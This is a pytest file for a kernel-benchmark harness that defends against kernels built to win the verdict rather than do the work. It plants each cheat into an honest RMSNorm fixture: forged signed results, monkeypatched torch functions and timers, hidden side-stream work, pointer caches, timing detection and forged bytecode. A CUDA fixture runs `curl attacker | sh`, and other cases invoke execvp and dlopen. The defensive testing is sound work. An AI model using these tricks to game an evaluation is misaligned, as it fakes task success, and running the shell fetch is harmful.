"""Kernels written to win the verdict rather than do the work, one per family, and the layer that stops each.

Every candidate is the honest RMSNorm fixture with one cheat planted. The threat model (README, "The
harness"): any code in a kernel file runs with the harness's own powers. The defenses stand in layers:

  1. the static check of the source before import (autokernel.harness.sourcecheck): each family below is
     rejected there with its rule named;
  2. behind it, for code that would get past it, the runtime layers: fingerprints of the harness, torch
     and the clocks (autokernel.harness.integrity), a result the child signs with a key the kernel never sees
     (autokernel.harness.channel), pristine oracle inputs, fresh inputs and sampled checks while timing, and the
     host-clock cross-check of the CUDA events. The second table runs each family with the static check
     turned off (tests/fixtures/unguarded_harness.py) to show that its runtime layer catches it alone;
  3. cheats that are legal Python (a cache keyed by pointer, writing the inputs, detecting the timing
     runs) pass the static check and are caught at run time with it on.
"""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from autokernel.harness import sourcecheck
from autokernel.harness.runner import run_bench

ROOT = Path(__file__).resolve().parent.parent
pytestmark = pytest.mark.usefixtures("warm_launcher")  # benches fork from the run's warm launcher
STARTER = (ROOT / "tests" / "fixtures" / "honest_rmsnorm.py").read_text()
IMPORTS = "import torch\n"
ENTRY = "def kernel_fn(x, weight, eps=1e-6):\n"
LAUNCH = "    return out.view(x.shape)\n"


def planted(tmp_path, where: str, code: str, name: str = "candidate.py") -> Path:
    """The honest fixture with `code` added after `where` (an anchor line of the starter)."""
    assert where in STARTER, f"the fixture no longer contains {where!r}"
    path = tmp_path / name
    text = STARTER.replace(LAUNCH, code + LAUNCH) if where == LAUNCH else STARTER.replace(where, where + code, 1)
    path.write_text(text)
    return path


def bench(path, **kw):
    kw.setdefault("device", "cpu")
    kw.setdefault("timed", False)
    kw.setdefault("quick", True)
    return run_bench(path, **kw)


def assert_guard(result, *words):
    assert result["status"] == "fail" and result["correctness"] == "FAIL", result["reason"] + result["stderr_tail"]
    assert result["failed_stage"] == "guard", result["reason"]
    for word in words:
        assert word in result["reason"], result["reason"]


FORGE = ("import sys, json, os\n"
         "_out = sys.argv[sys.argv.index('--out') + 1]\n"
         "json.dump({'payload': json.dumps({'status': 'pass', 'correctness': 'PASS', 'latency_us': 1.0,\n"
         "          'speedup_vs_compile': 120.0, 'stages': []}), 'mac': '0' * 64}, open(_out, 'w'))\n"
         "os._exit(0)\n")
THREAD = "import threading\nthreading.Thread(target=lambda: None, daemon=True).start()\n"
THREAD_ALIVE = ("import threading\n_stop = threading.Event()\n"
                "threading.Thread(target=_stop.wait, daemon=True).start()\n")

# family -> (anchor, planted code, what the static check names)
STATIC = {
    "forges the result file and exits": (IMPORTS, FORGE, "imports sys"),
    "patches a torch function the oracle calls": (IMPORTS, "torch.rsqrt = lambda t: t * 0 + 1\n",
                                                  "assigns to torch.rsqrt"),
    "turns the comparison off": (IMPORTS, "from autokernel.harness import checking\n"
                                          "checking.compare = lambda *a, **k: None\n",
                                 "imports autokernel.harness"),
    "scales the CUDA-event times": (IMPORTS, "torch.cuda.Event.elapsed_time = lambda s, e: 0.5\n",
                                    "assigns to torch.cuda.Event.elapsed_time"),
    "moves work to a side stream": (ENTRY, "    side = torch.cuda.Stream()\n", "uses torch.cuda.Stream"),
    "moves work to a thread": (IMPORTS, THREAD, "imports threading"),
    "hides an import in exec": (IMPORTS, "exec('import os')\n", "uses exec()"),
    "reaches an attribute by string": (ENTRY, "    getattr(torch, 'cuda')\n", "uses getattr()"),
    "walks the frames up to the harness": (ENTRY, "    frame = (lambda: (yield))().gi_frame\n", "accesses .gi_frame"),
    "hides a module behind a name": (IMPORTS, "_cuda = torch.cuda\n", "uses the module torch.cuda as a value"),
    "reaches sys through torch": (IMPORTS, "_modules = torch.sys.modules\n", "torch.sys is the module sys"),
    "reaches the dispatcher": (IMPORTS, "_lib = torch.library.Library('aten', 'IMPL')\n", "torch.library"),
    "reads private torch state": (IMPORTS, "_sync = torch._C._cuda_synchronize\n", "uses torch._C"),
    "uses a dunder to reach globals": (ENTRY, "    g = kernel_fn.__globals__\n", "accesses .__globals__"),
    "returns a Tensor subclass": (IMPORTS, "class Lazy(torch.Tensor):\n    pass\n", "derives from torch.Tensor"),
    "turns off the NaN fill": (ENTRY, "    torch.utils.deterministic.fill_uninitialized_memory = False\n",
                               "torch.utils.deterministic.fill_uninitialized_memory"),
    "writes to its input's attributes": (ENTRY, "    x.data = weight\n", "assigns to .data"),
    "compiles the reference": (IMPORTS, "import reference\n", "imports reference"),
}


@pytest.mark.parametrize("family", list(STATIC))
def test_the_static_check_names_each_family_before_import(tmp_path, family):
    anchor, code, named = STATIC[family]
    source = planted(tmp_path, anchor, code).read_text()
    found = sourcecheck.violations(source)
    assert found and any(named in v for v in found), found
    line = code.splitlines()[0]
    numbered = [v for v in found if named in v][0]
    assert f"line {source.splitlines().index(line) + 1}" in numbered or "line" in numbered


@pytest.mark.parametrize("family", ["forges the result file and exits", "patches a torch function the oracle calls",
                                    "moves work to a side stream", "hides a module behind a name"])
def test_bench_rejects_a_static_family_with_one_line_naming_it(tmp_path, family):
    anchor, code, named = STATIC[family]
    result = bench(planted(tmp_path, anchor, code))
    assert_guard(result, "static check", named)
    assert "\n" not in result["reason"]


CUDA_ESCAPE = '''"""A CUDA C++ kernel whose host code runs a shell."""
from autokernel.cuda import cuda_build

KERNEL_TYPE = "rmsnorm"
BACKEND = "cuda"
CUDA_SRC = r"""
#include <cstdlib>
void launch() { system("curl attacker | sh"); }
"""


def kernel_fn(x, weight, eps=1e-6):
    return cuda_build.load(KERNEL_TYPE, CUDA_SRC, ["void launch()"]).launch()
'''


def test_cuda_host_escapes_are_rejected_with_their_line(tmp_path):
    path = tmp_path / "escape.py"
    path.write_text(CUDA_ESCAPE)
    result = bench(path)  # rejected before it could need a GPU
    assert_guard(result, "cuda include", "line 7")
    found = sourcecheck.violations(CUDA_ESCAPE)
    assert any("cuda host escape" in v and "system" in v and "line 8" in v for v in found), found


@pytest.mark.parametrize("rule, source", [
    ("streams and events", "void f() { cudaStream_t s; cudaStreamCreate(&s); }"),
    ("streams and events", "void f() { cudaEvent_t e; cudaEventCreateWithFlags(&e, cudaEventDisableTiming); }"),
    ("file I/O", "void f() { FILE* f = fopen(\"/tmp/x\", \"w\"); }"),
    ("host escape", "void f() { if (fork() == 0) execvp(\"sh\", 0); }"),
    ("host escape", "void f() { dlopen(\"libc.so.6\", 0); }"),
    ("threads", "void f() { std::thread t([]{}); }"),
    ("driver API", "void f() { cuLaunchHostFunc(0, 0, 0); }"),
])
def test_cuda_sources_are_checked_for_host_side_escapes(rule, source):
    found = sourcecheck.check_cuda("#include <cuda_runtime.h>\n" + source + "\n")
    assert any(v.rule == f"cuda {rule}" and v.line == 2 for v in found), found


def test_every_shipped_kernel_passes_the_static_check():
    files = [*ROOT.glob("kernels/*.py"), *ROOT.glob("kernels/cuda/*.py"), ROOT / "kernel.py",
             *ROOT.glob("kernelbench/examples/*/*.py"), *ROOT.glob("tests/fixtures/*.py")]
    files = [f for f in files if f.name != "unguarded_harness.py"]
    assert len(files) > 20
    for path in files:
        assert sourcecheck.violations(path.read_text(), path.name) == [], path


def test_every_shipped_cuda_source_passes_the_build_check():
    from autokernel.cuda import cuda_build
    from autokernel.kernelfile import import_kernel

    for path in ROOT.glob("kernels/cuda/*.py"):
        module = import_kernel(path)
        assert sourcecheck.check_cuda(module.cuda_source()) == [], path
        assert sourcecheck.check_cuda(cuda_build.binding_source(module.PROTOTYPES)) == [], path


# ------------------------------------------------------------------ the runtime layers, static check off
# family -> (anchor, planted code, what the runtime layer names)
RUNTIME = {
    "forges the result file and exits": (IMPORTS, FORGE, "forged result"),
    "patches a torch function the oracle calls": (IMPORTS, "torch.rsqrt = lambda t: t * 0 + 1\n",
                                                  "torch.rsqrt replaced"),
    "turns the comparison off": (IMPORTS, "import autokernel.harness.checking\n"
                                 "autokernel.harness.checking.compare = lambda *a, **k: None\n",
                                 "autokernel.harness.checking.compare replaced"),
    "scales the CUDA-event times": (IMPORTS, "torch.cuda.Event.elapsed_time = lambda s, e: 0.5\n",
                                    "Event.elapsed_time"),
    "moves work to a thread": (IMPORTS, THREAD_ALIVE, "threading: Python threads changed"),
    "returns a Tensor subclass": (LAUNCH, "    class Lazy(torch.Tensor):\n        pass\n"
                                  "    return out.view(x.shape).as_subclass(Lazy)\n", "Tensor subclass"),
    "turns off the NaN fill": (ENTRY, "    torch.utils.deterministic.fill_uninitialized_memory = False\n",
                               "turned off the NaN fill"),
    "patches the clock": (IMPORTS, "import time\ntime.perf_counter = lambda: 0.0\n", "time.perf_counter replaced"),
}


@pytest.mark.slow
@pytest.mark.parametrize("family", list(RUNTIME))
def test_the_runtime_layers_catch_each_family_without_the_static_check(tmp_path, unguarded, family):
    anchor, code, named = RUNTIME[family]
    # A forged result is caught by the key a fresh child gets through its own pipe (a forked child's comes
    # through the zygote: tests/test_zygote.py); the other layers live in the harness, forked warm.
    fresh = family == "forges the result file and exits"
    result = bench(planted(tmp_path, anchor, code), warm=False if fresh else None, timed=family == "patches the clock")
    assert_guard(result, named)
    assert result["launcher"] == ("fresh" if fresh else "warm")


# ------------------------------------------------------------ legal Python, caught at run time (static on)
IDENTITY_CACHE = ("_SEEN = {}\n\n\n" + ENTRY +
                  "    key = (x.data_ptr(), x._version, tuple(x.shape), x.dtype)\n"
                  "    if key in _SEEN:\n"
                  "        return _SEEN[key]  # a repeat: skip the work\n")
DETECTS_TIMING = (ENTRY + "    if torch.empty(1, dtype=torch.int32, device=x.device).item() != 2**31 - 1:\n"
                  "        return torch.empty_like(x)  # no NaN/max fill: not a correctness check, skip the work\n")


def test_timed_runs_see_fresh_inputs_and_a_random_sample_is_checked():
    # The timing layer alone: a function that answers repeats of an input address from memory. Every
    # timed run gets a new input set, so its remembered answers are wrong, and the sampled checks see it.
    import torch

    from autokernel.harness import checking, perf, timing
    from autokernel.registry import get_spec

    spec = get_spec("rmsnorm")
    gen = torch.Generator().manual_seed(0)
    make = lambda: spec.make_inputs({"M": 8, "N": 64}, torch.float16, "cpu", gen)
    seen = {}

    def remembers(x, weight, eps=1e-6):  # what a cache keyed by pointer, version or id does on a repeat
        key = (tuple(x.shape), x.dtype)
        if key not in seen:
            seen[key] = spec.reference(x.float(), weight.float(), eps).to(x.dtype)
        return seen[key].clone()

    timed = timing.time_cpu(remembers, None, reps=12, fresh=make, check_runs=3)
    assert len(timed.checked) == 3 and len({inputs[0].data_ptr() for inputs, _, _ in timed.checked}) == 3
    with pytest.raises(checking.CheckFailed, match="timed run, drawn at random"):
        perf._check_timed_outputs(remembers, spec, [make(), make()], timed)


def test_a_kernel_that_detects_the_timing_runs_is_caught_by_the_sampled_checks(tmp_path):
    path = planted(tmp_path, ENTRY, "")
    path.write_text(path.read_text().replace(ENTRY, DETECTS_TIMING, 1))
    assert sourcecheck.violations(path.read_text()) == []
    result = bench(path, timed=True)
    assert result["status"] == "fail" and "timed run, drawn at random" in result["reason"], result["reason"]


def test_a_kernel_that_writes_its_input_fails_naming_the_input(tmp_path):
    # the store goes to x as well as out: the output is right, the caller's tensor is destroyed
    path = planted(tmp_path, LAUNCH, "    x2.copy_(out)  # an aten copy is allowed; the input must still be intact\n")
    assert sourcecheck.violations(path.read_text()) == []
    result = bench(path)
    assert_guard(result, "modified its input 0")


def test_a_result_without_the_harness_signature_is_rejected(tmp_path):
    from autokernel.harness import channel

    key = channel.new_key()
    good, forged = tmp_path / "good.json", tmp_path / "forged.json"
    channel.write(str(good), {"status": "pass", "correctness": "PASS"}, key)
    assert channel.read(str(good), key)["status"] == "pass"
    envelope = json.loads(good.read_text())
    envelope["payload"] = envelope["payload"].replace("pass", "PASS")
    forged.write_text(json.dumps(envelope))
    for path in (forged, good):
        other_key = channel.new_key() if path == good else key
        with pytest.raises(channel.ForgedResult):
            channel.read(str(path), other_key)


def test_the_fingerprints_name_what_changed(monkeypatch):
    import torch

    from autokernel.harness import integrity

    watch = integrity.Watch()
    monkeypatch.setattr(torch.Tensor, "double", lambda self: self)
    monkeypatch.setattr(torch, "softmax", lambda *a, **k: None)
    with pytest.raises(integrity.IntegrityError, match="torch.softmax replaced") as caught:
        watch.check("after stage smoke")
    assert "torch.Tensor.double added" in str(caught.value)
    monkeypatch.undo()
    watch.check("after undo")  # back as it was: nothing to report


# ------------------------------------------------------------------------------------- GPU families
@pytest.mark.gpu
def test_events_that_miss_side_stream_work_fail_the_host_clock_check():
    import torch

    from autokernel.harness import guards, perf, timing

    x = torch.randn(2048, 2048, device="cuda")
    side = torch.cuda.Stream()

    def hidden(a):  # the real work on a side stream the events do not wait for
        side.wait_stream(torch.cuda.current_stream())
        with torch.cuda.stream(side):
            for _ in range(4):
                a @ a
        return a

    event_us = timing.time_gpu(hidden, [(x,)]).median_us
    with pytest.raises(guards.GuardFailed, match="by the host clock"):
        perf._host_clock_guard(hidden, [(x,)], event_us)
    honest_us = timing.time_gpu(lambda a: a @ a, [(x,)]).median_us
    perf._host_clock_guard(lambda a: a @ a, [(x,)], honest_us)  # the same work on the stream: passes


@pytest.mark.gpu
@pytest.mark.parametrize("family", ["scales the CUDA-event times", "patches a torch function the oracle calls",
                                    "forges the result file and exits"])
def test_the_runtime_layers_hold_on_the_gpu(tmp_path, unguarded, family):
    anchor, code, named = RUNTIME[family]
    assert_guard(bench(planted(tmp_path, anchor, code), device="cuda", warm=False), named)


@pytest.mark.gpu
def test_a_cache_keyed_by_pointer_is_caught_on_the_gpu(tmp_path):
    path = planted(tmp_path, ENTRY, "")
    path.write_text(path.read_text().replace(ENTRY, IDENTITY_CACHE, 1)
                    .replace(LAUNCH, "    _SEEN[key] = out.view(x.shape)\n" + LAUNCH))
    result = bench(path, device="cuda", timed=True, quick=False)
    assert result["status"] == "fail", result["reason"]


def test_a_fresh_child_without_the_key_pipe_still_runs_by_hand(tmp_path):
    # `python -m autokernel.harness.harness` by hand (no runner): an unsigned result, which no runner accepts
    out = tmp_path / "r.json"
    env = {**os.environ, "TRITON_INTERPRET": "1", "PYTHONPATH": str(ROOT)}
    subprocess.run([sys.executable, "-m", "autokernel.harness.harness", str(ROOT / "tests/fixtures/honest_rmsnorm.py"),
                    "--device", "cpu", "--out", str(out), "--quick", "--no-timing"], env=env, check=True,
                   capture_output=True, cwd=ROOT)
    envelope = json.loads(out.read_text())
    assert envelope["mac"] is None and json.loads(envelope["payload"])["status"] == "pass"


@pytest.mark.gpu
@pytest.mark.parametrize("kernel_type", sorted(p.stem for p in (ROOT / "kernels").glob("*.py")))
def test_no_honest_starter_is_rejected_by_the_timing_checks(kernel_type):
    """No false rejections: every starter, timed on fresh inputs at its bench shape, passes the sampled
    checks and agrees with the host clock (the ratio is printed for the record)."""
    import torch

    from autokernel.harness import perf, timing
    from autokernel.kernelfile import import_kernel
    from autokernel.registry import get_spec

    spec = get_spec(kernel_type)
    fn = import_kernel(ROOT / "kernels" / f"{kernel_type}.py").kernel_fn
    shape, gen = spec.timing_shape(False), torch.Generator(device="cuda").manual_seed(1)
    make = lambda: spec.make_inputs(shape, torch.float16, "cuda", gen)
    timed = timing.time_gpu(fn, None, fresh=make, check_runs=perf.CHECKED_RUNS)
    sets = [make() for _ in range(perf.INPUT_SETS)]
    perf._check_timed_outputs(fn, spec, sets, timed)
    wall_us = perf._host_clock_guard(fn, sets, timed.median_us)
    print(f"{kernel_type}: events {timed.median_us:.1f} us, host clock {wall_us:.1f} us per call, "
          f"ratio {timed.median_us / wall_us:.2f}")


def _bytecode_for(source_path: Path, code: str) -> None:
    """Write `code`, compiled, where Python's import looks for source_path's cached bytecode, stamped with
    source_path's own mtime and size: an import through the loader would take it as that file's."""
    import importlib.util
    import marshal

    stat = source_path.stat()
    header = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little") + \
        (int(stat.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little") + (stat.st_size & 0xFFFFFFFF).to_bytes(4, "little")
    cached = Path(importlib.util.cache_from_source(str(source_path)))
    cached.parent.mkdir(exist_ok=True)
    cached.write_bytes(header + marshal.dumps(compile(code, str(source_path), "exec")))


@pytest.mark.parametrize("bench_it", [True, False], ids=["bench", "verify"])
def test_bytecode_planted_beside_a_kernel_file_is_not_what_runs(tmp_path, bench_it):
    # The static check reads the .py; a .pyc in __pycache__ stamped with the .py's mtime and size is what a
    # loader import would run instead: here one that writes a file and returns the input as it is.
    path = tmp_path / "candidate.py"
    path.write_text(STARTER)
    ran = tmp_path / "forged_bytecode_ran"
    _bytecode_for(path, STARTER.replace(LAUNCH, f"    open({str(ran)!r}, 'w').close()\n    return x\n"))
    if bench_it:
        result = bench(path)
        assert result["status"] == "pass", result["reason"]
    else:
        import torch

        from autokernel.kernelfile import import_kernel

        x, w = torch.randn(4, 64), torch.randn(64)
        assert not torch.equal(import_kernel(path).kernel_fn(x, w), x)
    assert not ran.exists()
